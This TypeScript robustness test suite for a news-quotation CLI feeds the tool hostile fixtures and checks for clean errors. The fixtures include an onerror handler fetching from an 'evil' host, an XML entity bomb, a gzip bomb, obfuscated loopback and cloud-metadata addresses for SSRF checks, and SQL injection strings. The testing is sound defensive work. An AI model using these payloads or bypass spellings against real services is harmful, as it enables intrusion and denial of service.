import assert from 'node:assert/strict';
import { mkdtemp, open, rm, writeFile } from 'node:fs/promises';
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { analyzeDocument } from '../src/extract/pipeline.js';
import { fetchUrl, readHtml, readInputs } from '../src/ingest/index.js';
import { HearsayError } from '../src/model/errors.js';
import type { Analysis } from '../src/model/types.js';
import { assertAnalysisSpans } from './helpers/spans.js';
import { article, articleOfLength, assertCleanErrors, assertOneLineError, documentOf, loopbackServer, randomSource, runHearsay } from './helpers/robustness.js';

// Hostile inputs through the CLI (in-process, fake streams) and analyzeDocument: each gives a clear one-line error or
// a clean result — never a crash, a hang or a stack trace. Every fixture is generated here.

let root = '';

before(async () => {
  root = await mkdtemp(join(tmpdir(), 'hearsay-robustness-'));
});

after(async () => {
  await rm(root, { recursive: true, force: true });
});

async function file(name: string, content: string | Buffer): Promise<string> {
  const path = join(root, name);
  await writeFile(path, content);
  return path;
}

function parseAnalyses(stdout: string): Analysis[] {
  return stdout
    .split('\n')
    .filter((line) => line.length > 0)
    .map((line) => JSON.parse(line) as Analysis);
}

/** Runs `analyze --format jsonl`, expects exit 0, checks every span, and returns the analyses. */
async function analyzeOk(args: readonly string[], where: string): Promise<Analysis[]> {
  const run = await runHearsay(['analyze', '--format', 'jsonl', ...args]);
  assertCleanErrors(run, where);
  assert.equal(run.code, 0, `${where}: ${run.stderr}`);
  const analyses = parseAnalyses(run.stdout);
  analyses.forEach(assertAnalysisSpans);
  return analyses;
}

test('empty, white-space-only, binary and invalid UTF-8 files: one-line errors, exit 1', async () => {
  const cases: Array<[string, string | Buffer, RegExp]> = [
    ['empty.txt', '', /empty input/u],
    ['spaces.txt', ' \t\r\n\u00a0\u3000\u200b\n\n', /empty input/u],
    ['binary.txt', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00, 0x08, 0x00, 0xff, 0x00]), /binary data|not valid/u],
    ['nul-in-utf8.txt', Buffer.from('He said "yes".\u0000\u0000 More.', 'utf8'), /binary data/u],
    ['invalid-utf8.txt', Buffer.from([0x48, 0x65, 0x20, 0xc3, 0x28, 0x20, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0x28]), /not valid UTF-8/u],
    ['overlong.txt', Buffer.from([0x41, 0xc0, 0xaf, 0x42]), /not valid UTF-8/u],
    ['lone-surrogate.txt', Buffer.from([0x41, 0xed, 0xa0, 0x80, 0x42]), /not valid UTF-8/u],
    ['empty.html', '<html><body><script>x()</script></body></html>', /empty input/u],
    ['empty.jsonl', '\n\n  \n', /empty input/u],
    ['bom-only.txt', Buffer.from([0xef, 0xbb, 0xbf]), /empty input/u],
    ['utf16-bom-only.txt', Buffer.from([0xff, 0xfe]), /empty input/u],
  ];
  for (const [name, content, pattern] of cases) {
    const run = await runHearsay(['analyze', await file(name, content)]);
    assertOneLineError(run, pattern, name);
    assert.equal(run.stdout, '', `${name}: no output`);
  }
});

test('UTF-16 with BOM (LE and BE), odd byte counts and a UTF-8 BOM: decoded, BOM dropped, spans into the text', async () => {
  const text = '\u201cWe are ready,\u201d Mayor Lena Fischer said on Tuesday. \u00abNon\u00bb, a r\u00e9pondu Moreau. \u{1F600} Kovalenko said prices rose 5 percent.';
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const be = Buffer.from(le);
  be.swap16();
  be[0] = 0xfe;
  be[1] = 0xff;
  for (const [name, bytes] of [['le.txt', le], ['be.txt', be], ['utf8bom.txt', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)])]] as const) {
    const [analysis] = await analyzeOk([await file(name, bytes)], name);
    assert.equal(analysis!.document.text, text, name);
    assert.ok(analysis!.statements.length >= 1, `${name}: statements found`);
  }
  // A UTF-16 file cut in the middle of a code unit is not valid UTF-16.
  const odd = await runHearsay(['analyze', await file('odd.txt', le.subarray(0, le.length - 1))]);
  assertOneLineError(odd, /not valid utf-16le/u, 'odd.txt');
});

test('an unterminated quotation 100,000 characters long, and 10,000 quotation marks in a row', async () => {
  const random = randomSource(7);
  const long = `${article(random, 2)}\n\nKovalenko said: \u201c${'and the work goes on '.repeat(5000)}`;
  assert.ok(long.length > 100_000);
  const straight = `Officials said "${'x'.repeat(100_000)}`;
  const runs = ['"'.repeat(10_000), '\u201c'.repeat(10_000), '\u201d'.repeat(10_000), '\u00ab\u00bb'.repeat(5_000), "'".repeat(10_000), '"\u201c\u00ab\u201e\u2018'.repeat(2_000)];
  for (const text of [long, straight, ...runs, `He said ${'"'.repeat(10_000)} and left.`]) {
    const analysis = analyzeDocument(documentOf(text));
    assertAnalysisSpans(analysis);
  }
  const [fromCli] = await analyzeOk([await file('unterminated.txt', long)], 'unterminated.txt');
  assert.ok(fromCli!.diagnostics.some((diagnostic) => diagnostic.ruleId === 'unterminated-quotation'), 'the unterminated quotation is a diagnostic');
});

// The big texts leave out relay phrases: findRelays (relays.ts, not owned here) is quadratic in the number of
// statements and would take hours on 50 MB of relay-rich news — see the todo test in robustness-linearity.
test('a 20 MB single line and a 50 MB text complete with valid spans', async () => {
  const random = randomSource(20);
  // One line: sentences joined by spaces, no line break anywhere.
  const line = articleOfLength(random, 20_000_000, false).replace(/\n+/gu, ' ');
  const linePath = await file('line.txt', line);
  const lineRun = await runHearsay(['analyze', '--format', 'jsonl', linePath], { keepStdout: false });
  assertCleanErrors(lineRun, 'line.txt');
  assert.equal(lineRun.code, 0, lineRun.stderr);
  assert.ok(lineRun.stdoutBytes > line.length);

  // 50 MB: written in pieces, read through readInputs, analyzed once, every span checked (linear).
  const bigPath = join(root, 'big.txt');
  const handle = await open(bigPath, 'w');
  let written = 0;
  let characters = 0;
  while (written < 50_000_000) {
    const piece = `${articleOfLength(random, 1_000_000, false)}\n\n`;
    await handle.write(piece);
    written += Buffer.byteLength(piece);
    characters += piece.length;
  }
  await handle.close();
  for await (const result of readInputs([bigPath])) {
    assert.ok(result.ok, 'read');
    const analysis = analyzeDocument(result.document);
    assert.equal(analysis.document.text.length, characters);
    assertAnalysisSpans(analysis);
    assert.ok(analysis.statements.length > 10_000);
  }
});

test('deeply nested HTML (10,000 levels): no stack overflow, text found, a diagnostic says why', async () => {
  const depth = 10_000;
  const variants: Record<string, string> = {
    div: `<html><body>${'<div>'.repeat(depth)}<p>\u201cIt holds,\u201d the engineer said.</p>${'</div>'.repeat(depth)}</body></html>`,
    span: `<html><body><p>${'<span>'.repeat(depth)}\u201cIt holds,\u201d the engineer said.${'</span>'.repeat(depth)}</p></body></html>`,
    unclosed: `<html><body>${'<div><b>'.repeat(depth)}\u201cIt holds,\u201d the engineer said.</body></html>`,
    blockquote: `${'<blockquote>'.repeat(depth)}\u201cIt holds,\u201d the engineer said.`,
    lists: `<body>${'<ul><li>'.repeat(depth / 2)}\u201cIt holds,\u201d the engineer said.${'</li></ul>'.repeat(depth / 2)}</body>`,
  };
  for (const [name, html] of Object.entries(variants)) {
    const [analysis] = await analyzeOk([await file(`${name}.html`, html)], name);
    assert.match(analysis!.document.text, /It holds/u, name);
    assert.ok(analysis!.diagnostics.some((diagnostic) => diagnostic.ruleId === 'html-too-deep'), `${name}: html-too-deep diagnostic`);
  }
  // A normal page is still read by Readability, without the diagnostic.
  const [plain] = await analyzeOk([await file('shallow.html', '<html><body><article><p>\u201cIt holds,\u201d the engineer said.</p></article></body></html>')], 'shallow');
  assert.ok(!plain!.diagnostics.some((diagnostic) => diagnostic.ruleId === 'html-too-deep'));
});

const SCRIPTED_MARKERS = ['SCRIPT_SECRET', 'HANDLER_SECRET', 'STYLE_SECRET', 'NOSCRIPT_SECRET', 'TEMPLATE_SECRET', 'IFRAME_SECRET', 'JS_URL_SECRET', 'SVG_SECRET', 'OBJECT_SECRET'];

function scriptedPage(body: string): string {
  return `<!DOCTYPE html><html><head><title>Scripted</title><script>var a = "SCRIPT_SECRET";</script><style>p::after{content:"STYLE_SECRET"}</style></head>
<body onload="HANDLER_SECRET()"><article>
<p onclick="alert('HANDLER_SECRET')" onmouseover="HANDLER_SECRET">${body}</p>
<img src="x" onerror="fetch('//evil/HANDLER_SECRET')">
<script type="module">document.write("SCRIPT_SECRET")</script><script>if (a < b && c > d) "SCRIPT_SECRET";</script>
<noscript>NOSCRIPT_SECRET</noscript><template><p>TEMPLATE_SECRET</p></template>
<iframe srcdoc="<p>IFRAME_SECRET</p>">IFRAME_SECRET</iframe><a href="javascript:JS_URL_SECRET()">a link</a>
<svg><script>SVG_SECRET</script><text>SVG_SECRET</text></svg><object data="x">OBJECT_SECRET</object>
<p>The council met for three hours. Residents asked many questions about the budget and the timetable.</p>
</article></body></html>`;
}

test('HTML with scripts, styles and event handlers: none of their content reaches the text', async () => {
  const body = '\u201cThe bridge reopens in May,\u201d Mayor Lena Fischer said on Tuesday.';
  const shallow = scriptedPage(body);
  const deep = `<html><body>${'<div>'.repeat(200)}${scriptedPage(body)}${'</div>'.repeat(200)}</body></html>`;
  const jsonl = `${JSON.stringify({ id: 'j', html: shallow })}\n`;
  const rss = `<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>i</title><description>${scriptedPage(`${body} ${'More words about the council. '.repeat(30)}`).replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/>/gu, '&gt;')}</description></item></channel></rss>`;
  const inputs = [await file('scripted.html', shallow), await file('scripted-deep.html', deep), await file('scripted.jsonl', jsonl), await file('scripted.xml', rss)];
  const analyses = await analyzeOk(inputs, 'scripted');
  assert.equal(analyses.length, 4);
  for (const analysis of analyses) {
    assert.match(analysis.document.text, /bridge reopens in May/u, analysis.document.id);
    for (const marker of SCRIPTED_MARKERS) assert.ok(!analysis.document.text.includes(marker), `${analysis.document.id}: ${marker} leaked into the text`);
    assert.ok(!/onclick|onerror|javascript:/u.test(analysis.document.text), `${analysis.document.id}: attributes leaked`);
  }
  // Straight through readHtml, too.
  const document = readHtml(shallow, { id: 'direct' });
  for (const marker of SCRIPTED_MARKERS) assert.ok(!document.text.includes(marker), marker);
});

test('malformed RSS/Atom: one-line errors; an entity bomb is refused or bounded', async () => {
  const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]><rss version="2.0"><channel><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>`;
  const cases: Array<[string, string, RegExp]> = [
    ['unclosed.xml', '<?xml version="1.0"?><rss version="2.0"><channel><item><title>Open', /malformed feed/u],
    ['mismatched.rss', '<rss version="2.0"><channel><item><title>a</description></item></channel></rss>', /malformed feed/u],
    ['no-items.atom', '<feed xmlns="http://www.w3.org/2005/Atom"><title>Empty</title></feed>', /no items/u],
    ['not-a-feed.xml', '<?xml version="1.0"?><html><body>x</body></html>', /not an RSS 2.0 or Atom feed/u],
    ['garbage.xml', '\u0001\u0002 <<<>>> &&& ]]>', /malformed feed|not an RSS/u],
    ['attr-garbage.xml', '<rss version="2.0" a="1" a="2"><channel/></rss>', /malformed feed|no items/u],
    ['deep.xml', `<rss version="2.0"><channel><item>${'<x>'.repeat(5000)}${'</x>'.repeat(5000)}</item></channel></rss>`, /./u],
  ];
  for (const [name, content, pattern] of cases) {
    const run = await runHearsay(['analyze', '--format', 'jsonl', await file(name, content)]);
    assertCleanErrors(run, name);
    assert.ok(run.code === 1 || run.code === 0, `${name}: exit ${run.code}`);
    if (run.code === 1) assertOneLineError(run, pattern, name);
    else parseAnalyses(run.stdout).forEach(assertAnalysisSpans);
  }
  const bombRun = await runHearsay(['analyze', '--format', 'jsonl', await file('bomb.xml', bomb)], { keepStdout: false });
  assertCleanErrors(bombRun, 'bomb.xml');
  assert.ok(bombRun.code === 0 || bombRun.code === 1);
  assert.ok(bombRun.stdoutBytes < 50_000_000, `the entity bomb expanded to ${bombRun.stdoutBytes} bytes of output`);
});

test('JSON Lines with broken lines: every good line goes through, each broken line is named file:LINE', async () => {
  const good = (index: number): string => JSON.stringify({ id: `good${index}`, text: `\u201cLine ${index} is fine,\u201d Kovalenko said.` });
  const lines = [
    good(1),
    '{"text": "unterminated',
    good(3),
    '{"text": 42}',
    '[1, 2, 3]',
    '"just a string"',
    good(7),
    '{"title": "no text"}',
    '\u0001\u0002garbage',
    `{"text": "${'a'.repeat(10)}", "publishedAt": "yesterday-ish"}`,
    '{"text": "   "}',
    '{"html": "<script>x</script>"}',
    good(13),
    '{"text": "dup", "text": "Second wins, the clerk said."}',
    `{"text": "${'\\"'.repeat(5000)}"}`,
    '{',
    good(17),
  ];
  const path = await file('mixed.jsonl', `${lines.join('\r\n')}\n`);
  const run = await runHearsay(['analyze', '--format', 'jsonl', path]);
  assertCleanErrors(run, 'mixed.jsonl');
  assert.equal(run.code, 1);
  const analyses = parseAnalyses(run.stdout);
  analyses.forEach(assertAnalysisSpans);
  const ids = analyses.map((analysis) => analysis.document.id);
  for (const id of ['good1', 'good3', 'good7', 'good13', 'good17']) assert.ok(ids.includes(id), `${id} went through`);
  const errors = run.stderr.split('\n').filter((line) => line.length > 0);
  for (const lineNumber of [2, 4, 5, 6, 8, 9, 10, 11, 12, 16]) assert.ok(errors.some((line) => line.startsWith(`hearsay: ${path}:${lineNumber}: `)), `line ${lineNumber} reported: ${run.stderr}`);
  for (const line of errors) assert.match(line, /^hearsay: \S+:\d+: .+/u);
});

test('unreachable, silent, slow and looping URLs: clear errors within the time limit', async () => {
  // A TCP server that accepts and never says a word.
  const sockets = new Set<Socket>();
  const silent: TcpServer = createTcpServer((socket) => void sockets.add(socket));
  await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
  const silentPort = (silent.address() as { port: number }).port;
  // A port nothing listens on: bind, note the port, close.
  const closed = createTcpServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const closedPort = (closed.address() as { port: number }).port;
  await new Promise<void>((resolve) => closed.close(() => resolve()));
  const drips = new Set<NodeJS.Timeout>();
  // Compressed once, before the server starts: compressing 64 MB inside the route took longer than the client's
  // 400 ms timeout on a loaded machine, so the test saw a timeout instead of the size limit.
  const gzipBomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x61));
  const server = await loopbackServer({
    '/headers-then-nothing': (_request, response) => void response.writeHead(200, { 'content-type': 'text/plain' }).flushHeaders(),
    '/drip': (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/plain' });
      const timer = setInterval(() => response.write('said '), 50);
      drips.add(timer);
      response.on('close', () => clearInterval(timer));
    },
    '/loop-a': (_request, response) => response.writeHead(302, { location: '/loop-b' }).end(),
    '/loop-b': (_request, response) => response.writeHead(301, { location: '/loop-a' }).end(),
    '/self': (_request, response) => response.writeHead(307, { location: '/self' }).end(),
    '/endless': (request, response) => response.writeHead(302, { location: `/endless?n=${Number(new URL(request.url ?? '', 'http://x').searchParams.get('n') ?? 0) + 1}` }).end(),
    '/huge': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain' }).end('z'.repeat(3_000_000)),
    '/bomb': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip' }).end(gzipBomb),
    '/binary': (_request, response) => response.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.from([0x89, 0x50, 0x4e, 0x47])),
    '/bad-encoding': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'zstd-x' }).end('x'),
    '/bad-gzip': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip' }).end('not gzip at all'),
    '/bad-charset': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain; charset=x-klingon' }).end('x'),
  });
  try {
    const allow = ['--allow-private-urls', '--timeout-ms', '400', '--max-bytes', '1000000'];
    const cases: Array<[string, RegExp]> = [
      [`http://127.0.0.1:${silentPort}/`, /timed out after 400 ms/u],
      [`http://127.0.0.1:${closedPort}/`, /fetch failed: ECONNREFUSED/u],
      [`${server.base}/headers-then-nothing`, /timed out after 400 ms/u],
      [`${server.base}/drip`, /timed out after 400 ms/u],
      [`${server.base}/loop-a`, /redirect loop/u],
      [`${server.base}/self`, /redirect loop/u],
      [`${server.base}/endless`, /too many redirects/u],
      [`${server.base}/huge`, /larger than 1000000 bytes/u],
      [`${server.base}/bomb`, /larger than 1000000 bytes/u],
      [`${server.base}/binary`, /unsupported Content-Type/u],
      [`${server.base}/bad-encoding`, /unsupported Content-Encoding/u],
      [`${server.base}/bad-gzip`, /cannot read the response body/u],
      [`${server.base}/bad-charset`, /unknown charset/u],
      [`${server.base}/missing`, /HTTP 404/u],
      ['http://[::1', /not a valid URL/u],
      ['ftp://example.org/file.txt', /no such file|unsupported URL scheme/u],
      ['http://host.invalid/', /cannot resolve host/u],
    ];
    for (const [url, pattern] of cases) {
      const started = Date.now();
      const run = await runHearsay(['analyze', ...allow, url]);
      assertOneLineError(run, pattern, url);
      // Not a time limit on the test: a sanity bound that the fetch deadline, not some other wait, ended it.
      assert.ok(Date.now() - started < 60_000, `${url} took ${Date.now() - started} ms`);
    }
    // A good input after a hanging one is still analyzed (exit 1 for the failure, output for the other).
    const mixed = await runHearsay(['analyze', '--format', 'jsonl', ...allow, `http://127.0.0.1:${silentPort}/`, await file('ok.txt', '\u201cFine,\u201d she said.')]);
    assert.equal(mixed.code, 1);
    assert.equal(parseAnalyses(mixed.stdout).length, 1);
  } finally {
    for (const timer of drips) clearInterval(timer);
    for (const socket of sockets) socket.destroy();
    await new Promise<void>((resolve) => silent.close(() => resolve()));
    await server.close();
  }
});

test('the URL guard refuses loopback, private, link-local and unspecified hosts in every spelling, before connecting', async () => {
  const server = await loopbackServer({ '/': (_request, response) => response.writeHead(200, { 'content-type': 'text/plain' }).end('\u201cLeaked,\u201d the server said.') });
  const port = server.port;
  const hosts = [
    '127.0.0.1', 'localhost', 'LOCALHOST', 'localhost.', '127.1', '127.0.1', '2130706433', '0x7f.1', '0x7f000001', '0177.0.0.1', '017700000001', '0x7f.0.0.1',
    '[::1]', '[0:0:0:0:0:0:0:1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[::ffff:0:127.0.0.1]', '[64:ff9b::127.0.0.1]', '[2002:7f00:1::]',
    '0.0.0.0', '0', '[::]', '10.0.0.1', '10.255.255.255', '172.16.0.1', '172.31.255.254', '192.168.0.1', '192.168.255.255', '169.254.169.254', '[::ffff:169.254.169.254]',
    '100.64.0.1', '[fc00::1]', '[fd12:3456::1]', '[fe80::1]', '[febf::1]', '[fec0::1]', '[ff02::1]', '224.0.0.1', '255.255.255.255',
  ];
  try {
    for (const host of hosts) {
      const url = `http://${host}:${port}/`;
      const run = await runHearsay(['analyze', '--timeout-ms', '2000', url]);
      // "localhost." may not resolve at all here (no search domain): refused either way, never fetched.
      const refusal = host === 'localhost.' ? /refusing to fetch|cannot resolve host/u : /refusing to fetch a loopback, private or link-local address/u;
      assertOneLineError(run, refusal, url);
      await assert.rejects(fetchUrl(url, { timeoutMs: 2000 }), (error: unknown) => error instanceof HearsayError && refusal.test(error.message), url);
    }
    // https and a redirect's target go through the same check; nothing above reached the server.
    assert.equal(server.hits(), 0, 'no request reached the loopback server');
    // With the flag, loopback is allowed (the guard is the only thing that stopped the requests above).
    const allowed = await runHearsay(['analyze', '--allow-private-urls', '--format', 'jsonl', `http://127.0.0.1:${port}/`]);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.equal(server.hits(), 1);
  } finally {
    await server.close();
  }
});

test('search syntax from users: FTS5 operators, quotes, columns, NEAR and SQL give results or a clear message', async () => {
  const random = randomSource(99);
  const directory = join(root, 'search-articles');
  const { mkdir } = await import('node:fs/promises');
  await mkdir(directory);
  for (let index = 0; index < 8; index++) await writeFile(join(directory, `a${index}.txt`), article(random, 6));
  const db = join(root, 'search.db');
  const ingest = await runHearsay(['ingest', directory, '--db', db]);
  assertCleanErrors(ingest, 'ingest');
  assert.equal(ingest.code, 0, ingest.stderr);
  const queries = [
    '"unbalanced', 'unbalanced"', '"', '""', '"""', 'a"b"c', 'bridge AND', 'AND', 'OR', 'NOT', 'OR OR bridge', 'bridge NOT', 'NOT NOT bridge', '-', '--', '-bridge',
    '*', '**', 'bri*', '*idge', 'b*r*', 'NEAR(', 'NEAR(bridge budget, 3)', 'NEAR/3', 'content:', 'content:bridge', 'speaker:Fischer', '{content speaker}: bridge', 'tags:spk1',
    '^bridge', 'bridge^', '(', ')', '(bridge', 'bridge)', '((((((((((bridge', '+bridge', 'a:b:c', ':', '\\', "'", "'; DROP TABLE articles; --", '" OR 1=1 --',
    'rowid', 'statement_fts', 'MATCH', '%', '_', '\u0000', '\u{1F600}', '\u202eevil', 'br\u0301idge', ' '.repeat(100), 'bridge '.repeat(2000), 'x'.repeat(100_000),
  ];
  for (const query of queries) {
    // `--` ends the options, so a query that looks like an option ("-", "--") stays the query.
    const run = await runHearsay(['search', '--db', db, '--limit', '3', '--', query]);
    const where = `search ${JSON.stringify(query.slice(0, 40))}`;
    assertCleanErrors(run, where);
    assert.ok(run.code === 0 || run.code === 2, `${where}: exit ${run.code}: ${run.stderr}`);
    if (run.code === 2) assert.match(run.stderr, /^hearsay: [^\n]+\n$/u, where);
    const json = await runHearsay(['search', '--db', db, '--format', 'json', '--speaker', 'Fischer', '--from', '2024-01-01', '--', query]);
    assertCleanErrors(json, `${where} (json)`);
    assert.ok(json.code === 0 || json.code === 2, `${where} (json): exit ${json.code}: ${json.stderr}`);
    if (json.code === 0) JSON.parse(json.stdout);
  }
  // Hostile filter values, too.
  for (const args of [['--speaker', '"); DROP TABLE x; --'], ['--outlet', '%_\\'], ['--stance', 'neutral" OR "'], ['--kind', 'x'], ['--from', '2024-13-45'], ['--limit', '-1'], ['--limit', '1e9'], ['--offset', 'NaN']]) {
    const run = await runHearsay(['search', 'bridge', '--db', db, ...args]);
    assertCleanErrors(run, args.join(' '));
    assert.ok(run.code === 0 || run.code === 2, `${args.join(' ')}: exit ${run.code}`);
  }
  const stats = await runHearsay(['stats', '--db', db, '--format', 'json']);
  assert.equal(stats.code, 0, 'the database is intact after all that');
});
